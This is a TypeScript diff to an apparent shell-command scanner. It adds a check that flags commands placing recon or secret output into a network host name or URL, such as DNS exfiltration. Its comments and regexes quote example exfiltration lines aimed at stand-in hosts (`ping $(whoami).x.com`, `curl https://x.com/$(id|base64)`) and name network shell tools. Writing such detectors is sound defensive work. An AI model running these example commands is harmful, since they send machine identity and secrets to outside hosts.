@@ -1,6 +1,7 @@
 import {
   type Analysis,
   argTexts,
+  type Cmd,
   type Hit,
   isSink,
   mentionsSecret,
@@ -28,6 +29,36 @@ export function rawSocketSend(a: Analysis, hit: Hit): boolean {
       if (w.raw.startsWith(">(") && /\b(nc|ncat|netcat|socat|telnet)\b/.test(w.raw))
         return hit("shell.raw-socket-send", w.raw);
   return false;
+}
+
+/** A URL or host name word: `https://…`, `x.evil.com`, `$(id).evil.com`. */
+const DESTINATION = /^(?:[a-z][\w+.-]*:\/\/|[^\s/=]*\.[a-z]{2,}(?:[:/]|$))/i;
+/** The host part of such a word holds a substitution (`$(whoami).x.com`, `http://`id`.x/`). */
+const HOST_SUBST = /^(?:[a-z][\w+.-]*:\/\/)?[^/\s]*(?:\$\([^()]*\)|`[^`]*`)[\w-]*\.[\w.-]*[a-z]/i;
+const INNER = /\$\(([^()]*)\)|`([^`]*)`/g;
+/** Commands whose output tells who and where the machine is, or what it holds. */
+const RECON =
+  /^\s*(?:[\w/]*\/)?(?:id|whoami|hostname|uname|env|printenv|ifconfig|ip|ls|pwd|cat|base64|groups|w|last)\b/;
+
+/**
+ * Output of a command put into where a network command sends its request: the host name
+ * (DNS exfiltration: `ping $(whoami).x.com`, `dig `id`.x.net`) or a URL's path and query
+ * when the output is an identity, listing or file (`curl https://x.com/$(id|base64)`).
+ * `curl -H "Authorization: Bearer $(cat token)" https://api…` passes: that is a header.
+ */
+function outputInDestination(c: Cmd): string | undefined {
+  if (!namesRemoteHost(c)) return undefined;
+  for (const w of c.r.args) {
+    if (!w.subst) continue;
+    const raw = w.raw.replace(/^["']/, "");
+    if (!DESTINATION.test(raw) && !HOST_SUBST.test(raw)) continue;
+    if (HOST_SUBST.test(raw)) return w.raw;
+    for (const m of raw.matchAll(INNER)) {
+      const inner = m[1] ?? m[2] ?? "";
+      if (RECON.test(inner) || mentionsSecret(inner)) return w.raw;
+    }
+  }
+  return undefined;
 }
 
 const DEV_NET = /^\/dev\/(?:tcp|udp)\/([^/\s]+)\//;
@@ -63,6 +94,10 @@ export function credentialExfil(a: Analysis, hit: Hit): boolean {
     if (!isSink(c) && !namesRemoteHost(c)) continue;
     const secret = mentionsSecret(c.sc.raw) ?? readsSecret(c);
     if (secret) return hit("shell.credential-exfil", c.sc.raw);
+  }
+  for (const c of a.cmds) {
+    const leak = outputInDestination(c);
+    if (leak) return hit("shell.credential-exfil", leak);
   }
   // A script that opens a raw connection to a remote host (`exec 3<>/dev/tcp/h/80`, `ztcp h
   // 4444`, `nc h 4444`) and reads a secret anywhere has what it needs to send it: commands
